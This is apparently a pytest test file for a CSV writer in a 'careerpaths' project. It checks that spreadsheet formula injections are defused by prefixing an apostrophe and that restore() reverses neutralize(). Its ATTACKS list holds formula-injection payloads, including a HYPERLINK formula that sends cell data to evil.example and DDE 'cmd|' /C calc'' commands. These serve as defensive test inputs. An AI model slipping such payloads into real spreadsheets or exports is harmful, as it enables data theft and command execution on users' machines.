"""Issue 12 item 11: one CSV writer that defuses formulas, lossless for files read back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from careerpaths.io import csvsafe
from careerpaths.io.workspace import load_workspace, write_workspace
from tests.factories import mini_region

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def written(cells: list[object]) -> list[str]:
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerow(cells)
    return next(csv.reader(io.StringIO(buf.getvalue(), newline="")))


def test_every_formula_start_is_defused() -> None:
    for attack in ATTACKS:
        (cell,) = written([attack])
        assert cell == "'" + attack


def test_numbers_stay_numbers() -> None:
    assert written([-3, "-3", "+1.5", "-2e3", 4.25, "", None]) == [
        "-3",
        "-3",
        "+1.5",
        "-2e3",
        "4.25",
        "",
        "",
    ]


@pytest.mark.slow
@given(st.text())
def test_restore_inverts_neutralize(text: str) -> None:
    safe = csvsafe.neutralize(text)
    assert isinstance(safe, str)
    assert csvsafe.restore(safe) == text
    assert not safe or safe[0] not in "=@\t\r" or safe[0] == "'"
    if safe[:1] in ("-", "+"):
        float(safe)  # only a number may start with a sign


def test_a_workspace_with_formula_like_titles_round_trips(tmp_path: Path) -> None:
    region = mini_region()
    key = next(iter(region.courses))
    course = region.courses[key]
    import dataclasses

    evil = dataclasses.replace(course, title="=cmd|' /C calc'!A0", description="'quoted")
    region = dataclasses.replace(region, courses={**region.courses, key: evil})
    write_workspace(region, tmp_path / "ws")
    text = (tmp_path / "ws" / "courses.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in text and ",=cmd" not in text
    assert load_workspace(tmp_path / "ws").courses[key].title == "=cmd|' /C calc'!A0"
    assert load_workspace(tmp_path / "ws").courses[key].description == "'quoted"
